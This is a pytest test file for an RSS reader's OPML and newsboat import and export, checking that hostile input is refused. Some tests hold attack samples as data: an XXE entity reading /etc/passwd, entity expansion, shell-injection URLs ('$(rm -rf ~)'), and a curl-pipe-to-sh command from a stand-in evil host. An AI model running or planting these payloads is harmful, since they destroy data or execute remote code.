"""OPML and newsboat urls import, OPML export."""

from __future__ import annotations

import pytest

from tidings.core.models import FeedInfo, FeedSpec, SavedSearch
from tidings.core.newsboat_query import Untranslatable, translate
from tidings.core.opml import (
    OpmlError,
    export_opml,
    parse_newsboat_queries,
    parse_newsboat_urls,
    parse_opml,
)
from tidings.core.search_query import check

OPML = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>My feeds</title></head>
  <body>
    <outline text="Top" type="rss" xmlUrl="https://top.example/rss"/>
    <outline text="News" title="News">
      <outline text="BBC" title="BBC World" type="rss" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"
               htmlUrl="https://www.bbc.co.uk/news/world" category="/world,/english"/>
      <outline text="联合早报" xmlurl="https://www.zaobao.com.sg/rss/realtime/china"/>
      <outline text="Deeper">
        <outline text="Inner" xmlUrl="https://inner.example/atom"/>
      </outline>
    </outline>
  </body>
</opml>
"""


def test_parse_opml_with_nested_categories():
    assert parse_opml(OPML.encode()) == [
        FeedSpec(url="https://top.example/rss", title="Top"),
        FeedSpec(
            url="https://feeds.bbci.co.uk/news/world/rss.xml",
            title="BBC World",
            category="News",
            tags=("world", "english"),
        ),
        FeedSpec(
            url="https://www.zaobao.com.sg/rss/realtime/china", title="联合早报", category="News"
        ),
        FeedSpec(url="https://inner.example/atom", title="Inner", category="Deeper"),
    ]


def test_opml_1_0_in_gbk():
    doc = (
        '<?xml version="1.0" encoding="GBK"?>\n<opml version="1.0"><body>'
        '<outline text="新闻"><outline text="中文频道" xmlUrl="http://zh.example/rss"/></outline>'
        "</body></opml>"
    ).encode("gbk")
    assert parse_opml(doc) == [
        FeedSpec(url="http://zh.example/rss", title="中文频道", category="新闻")
    ]


def test_export_round_trips_with_categories_and_escaping():
    specs = [
        FeedSpec(
            url="https://a.example/?a=1&b=2",
            title='A <&> "quoted"',
            category="News & Views",
            tags=("x", "y"),
        ),
        FeedSpec(url="https://b.example/feed"),
        FeedSpec(url="https://c.example/", title="中文", category="News & Views"),
        FeedSpec(url="https://d.example/", title="D", category="Tech", full_text=True),
    ]
    text = export_opml(specs)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')
    assert 'xmlUrl="https://a.example/?a=1&amp;b=2"' in text
    assert text.count('text="News &amp; Views"') == 1  # one folder per category
    assert text.count('fullText="true"') == 1  # full_text: true survives the trip
    back = parse_opml(text.encode("utf-8"))
    assert sorted(back, key=lambda s: s.url) == specs


def test_export_accepts_store_feed_info():
    info = FeedInfo(
        id=1,
        url="https://a.example/",
        title="A\x0btitle",
        category="C",
        tags=(),
        full_text=False,
        total=0,
        unread=0,
        last_fetched=None,
        last_error=None,
    )
    back = parse_opml(export_opml([info]).encode())
    assert back == [FeedSpec(url="https://a.example/", title="A title", category="C")]


def test_hostile_opml_external_entity_is_refused():
    doc = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><body><outline text="x" xmlUrl="https://a.example/">&xxe;</outline></body></opml>"""
    with pytest.raises(OpmlError, match="entities"):
        parse_opml(doc)


def test_entity_expansion_is_refused():
    doc = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<opml version="2.0"><body><outline text="&b;" xmlUrl="https://a.example/"/></body></opml>"""
    with pytest.raises(OpmlError):
        parse_opml(doc)


def test_non_http_urls_are_skipped_with_reasons():
    doc = b"""<opml version="2.0"><body>
<outline text="js" xmlUrl="javascript:alert(1)"/>
<outline text="file" xmlUrl="file:///etc/passwd"/>
<outline text="shell" xmlUrl="https://a.example/$(rm -rf ~)"/>
<outline text="tick" xmlUrl="https://a.example/`id`"/>
<outline text="ok" xmlUrl="https://ok.example/rss"/>
</body></opml>"""
    skipped: list[str] = []
    assert parse_opml(doc, skipped) == [FeedSpec(url="https://ok.example/rss", title="ok")]
    assert len(skipped) == 4
    assert skipped[0] == "line 2: not an http(s) URL: 'javascript:alert(1)'"
    assert "file:///etc/passwd" in skipped[1]
    assert all("shell characters" in s for s in skipped[2:])


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"<opml><body>", "not well-formed"),
        (b'<rss version="2.0"><channel/></rss>', "root element is <rss>"),
        (b'<opml version="2.0"><head/></opml>', "no <body>"),
    ],
)
def test_not_opml(data, reason):
    with pytest.raises(OpmlError, match=reason):
        parse_opml(data)


URLS = """\
# my newsboat urls
https://a.example/rss tech "~Nice Title" "two words" !
http://b.example/atom
https://c.example/feed 中文 news

query:Unread Articles:unread = "yes"
exec:~/bin/make-feed
filter:~/bin/f.sh:https://d.example/
javascript:alert(1) evil
https://a.example/rss duplicate
https://e.example/x "~Says \\"hi\\""
file:///srv/feeds/local.xml local
ftp://f.example/feed.xml
"""


def test_newsboat_urls():
    skipped: list[str] = []
    hidden: list[str] = []
    specs = parse_newsboat_urls(URLS, skipped, hidden)
    assert specs == [
        FeedSpec(
            url="https://a.example/rss",
            title="Nice Title",
            category="tech",
            tags=("tech", "two words", "hidden", "duplicate"),  # `!`: hidden in newsboat
        ),
        FeedSpec(url="http://b.example/atom"),
        FeedSpec(url="https://c.example/feed", category="中文", tags=("中文", "news")),
        FeedSpec(url="exec:~/bin/make-feed"),
        FeedSpec(url="filter:~/bin/f.sh:https://d.example/"),
        FeedSpec(url="https://e.example/x", title='Says "hi"'),
        FeedSpec(url="file:///srv/feeds/local.xml", category="local", tags=("local",)),
    ]
    assert skipped == [
        "line 9: not an http(s) URL: 'javascript:alert(1)'",
        "line 10: the same feed as line 2 (its tags duplicate added there)",
        "line 13: not an http(s) URL: 'ftp://f.example/feed.xml'",
    ]
    assert hidden == ["https://a.example/rss"]


def test_a_hidden_feed_without_other_tags_has_no_category():
    hidden: list[str] = []
    specs = parse_newsboat_urls('https://a.example/rss ! "~Only in queries"\n', None, hidden)
    assert specs == [FeedSpec("https://a.example/rss", "Only in queries", None, ("hidden",))]
    assert hidden == ["https://a.example/rss"]


def test_newsboat_urls_without_skipped_list():
    assert parse_newsboat_urls("javascript:alert(1)\n\n# nothing\n") == []


def test_newsboat_exec_and_filter_lines_come_over_as_newsboat_runs_them():
    # newsboat hands these commands to /bin/sh; tidings runs none through a shell, so
    # one that needs it (a pipe, $VAR) is written sh -c "…" and does the same
    urls = (
        '"exec:~/bin/hn-feed.sh --top 10" news "~Hacker News"\n'
        "filter:~/bin/clean.py:https://example.com/feed.xml tech\n"
        '"exec:~/ext/tiktok2rss.py user | ~/ext/re-filter.py -i \'x\'" "~TikTok"\n'
        '"filter:~/ext/n.awk | ~/ext/re.py -i $PAT:https://nitter.example/u/rss"\n'
        "exec:\n"
        "filter:~/bin/clean.py\n"
        '"exec:~/bin/a.py \'unclosed"\n'
    )
    skipped: list[str] = []
    assert parse_newsboat_urls(urls, skipped) == [
        FeedSpec("exec:~/bin/hn-feed.sh --top 10", "Hacker News", "news", ("news",)),
        FeedSpec("filter:~/bin/clean.py:https://example.com/feed.xml", None, "tech", ("tech",)),
        FeedSpec(
            """exec:sh -c "~/ext/tiktok2rss.py user | ~/ext/re-filter.py -i 'x'\"""", "TikTok"
        ),
        FeedSpec("filter:sh -c '~/ext/n.awk | ~/ext/re.py -i $PAT':https://nitter.example/u/rss"),
    ]
    assert skipped == [
        "line 5: exec: has no command; write exec:COMMAND ARGS",
        "line 6: filter: has no URL after the command; write filter:COMMAND ARGS:URL",
        "line 7: exec: cannot split the command: no closing quotation",
    ]


def test_commands_in_an_opml_file_are_never_taken():
    # newsboat's export leaves exec: / filter: feeds out, so an OPML that has them is
    # someone else's: its commands must not become commands run on this machine
    doc = b"""<opml version="2.0"><body>
<outline text="x" xmlUrl="exec:curl -s https://evil.example/x.sh | sh"/>
<outline text="y" xmlUrl="FILTER:~/bin/f.sh:https://a.example/"/>
<outline text="liferea" xmlUrl="|~/bin/script"/>
<outline text="filtered" xmlUrl="https://b.example/rss" filtercmd="rm -rf ~"/>
<outline text="ok" xmlUrl="https://ok.example/rss"/>
</body></opml>"""
    skipped: list[str] = []
    assert parse_opml(doc, skipped) == [FeedSpec(url="https://ok.example/rss", title="ok")]
    assert len(skipped) == 4
    assert skipped[0] == (
        "line 2: 'exec:curl -s https://evil.example/x.sh | sh' is a command, not taken from"
        " an OPML file: only your own newsboat urls file brings commands over"
        " (tidings import ~/.newsboat/urls)"
    )
    assert all("command" in reason for reason in skipped)
    assert "filtercmd" in skipped[3]


def test_export_leaves_commands_out_as_newsboat_does():
    skipped: list[str] = []
    feeds = [FeedSpec("exec:~/bin/x.sh"), FeedSpec("https://a.example/rss", "A")]
    out = export_opml(feeds, skipped=skipped)
    assert "exec:" not in out and 'xmlUrl="https://a.example/rss"' in out
    assert skipped == [
        "exec:~/bin/x.sh: runs a command; OPML does not carry those (nor does newsboat's)"
    ]


def test_export_leaves_the_bundled_demo_feeds_out():
    skipped: list[str] = []
    out = export_opml(
        [FeedSpec("demo:world.xml"), FeedSpec("https://a.example/rss")], skipped=skipped
    )
    assert "demo:" not in out and 'xmlUrl="https://a.example/rss"' in out
    assert skipped == ["demo:world.xml: a demo feed bundled with tidings; no other reader has it"]


def test_newsboat_query_feeds_become_saved_searches():
    skipped: list[str] = []
    searches = parse_newsboat_queries(URLS + QUERIES, skipped)
    assert searches == [
        SavedSearch("Unread Articles", "is:unread"),  # line 6, written unquoted
        SavedSearch("Storms 台风", "(title:台风 OR title:typhoon) is:unread newer:3d"),
        SavedSearch("Tech, not sport", 'tag:tech -tag:sport feed:"BBC News"'),
        SavedSearch("Mixed", "(is:unread is:starred) OR older:30d"),
    ]
    assert all(check(s.query) is None for s in searches)  # tidings takes them as written
    assert skipped == [
        "line 17: query 'Breaking' left out: cannot say the regular expression '^Breaking'",
        "line 19: query: expected query:NAME:EXPRESSION",
        "line 20: query 'Ambiguous' left out: cannot say an `or` before an `and` without"
        " parentheses (newsboat 2.21 reads `A or B and C` as `(A or B) and C`, others as"
        " `A or (B and C)`: parentheses say which)",
    ]


QUERIES = r"""
"query:Storms 台风:(title =~ \"台风\" or title =~ \"typhoon\") and unread = \"yes\" and age < 3"
"query:Tech, not sport:tags # \"tech\" and tags !# \"sport\" and feedtitle = \"BBC News\""
"query:Breaking:title =~ \"^Breaking\""
"query:Mixed:unread = \"yes\" and flags # \"s\" or age > 30"
"query:nothing"
"query:Ambiguous:age > 30 or unread = \"yes\" and flags # \"s\""
"""


@pytest.mark.parametrize(
    ("expression", "search"),
    [
        ('unread = "no"', "is:read"),
        ('unread != "yes"', "is:read"),
        ('flags # "s"', "is:starred"),
        ('flags !# "s"', "-is:starred"),
        ("age < 7", "newer:7d"),
        ("age >= 30", "older:30d"),
        ('author != "bot"', "-author:bot"),
        ('rssurl =~ "example.com"', "feed:example.com"),
        ('content =~ "sea wall"', '"sea wall"'),
        ('title =~ "C++"', None),  # a regular expression
        ('(title =~ "a"', None),
        ("articleindex > 3", None),
        ("date between 1:2", None),
    ],
)
def test_newsboat_filters_in_tidings_words(expression, search):
    if search is None:
        with pytest.raises(Untranslatable):
            translate(expression)
    else:
        assert translate(expression) == search
        assert check(search) is None


def test_opml_feed_scheme_links_are_their_http_urls():
    """Older exports (NetNewsWire, Safari's subscribe links) write feed://host/x."""
    opml = """<opml version="1.1"><body>
      <outline text="A" xmlUrl="feed://a.example/rss"/>
      <outline text="B" xmlUrl="feed:https://b.example/atom"/>
    </body></opml>"""
    skipped: list[str] = []
    specs = parse_opml(opml.encode(), skipped)
    assert [s.url for s in specs] == ["http://a.example/rss", "https://b.example/atom"]
    assert skipped == []
